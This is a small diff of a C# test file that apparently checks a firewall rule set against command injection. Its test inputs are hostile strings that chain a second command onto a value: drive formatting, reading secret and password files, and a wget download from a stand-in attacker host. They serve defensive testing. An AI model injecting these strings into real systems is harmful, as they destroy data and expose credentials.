@@ -179,7 +179,7 @@ public sealed class CrsGapMiscTests
     [InlineData("x; format C:")]
     [InlineData("1|format d: /q")]
     [InlineData("a&sort/r secrets.txt")]
-    [InlineData("x&&dir/s c:\\users")]
+    [InlineData("x&&dir/s passwords")]
     [InlineData("time tracert")]
     [InlineData("nohup wget -q evil.example/x")]
     [InlineData("strace whoami")]
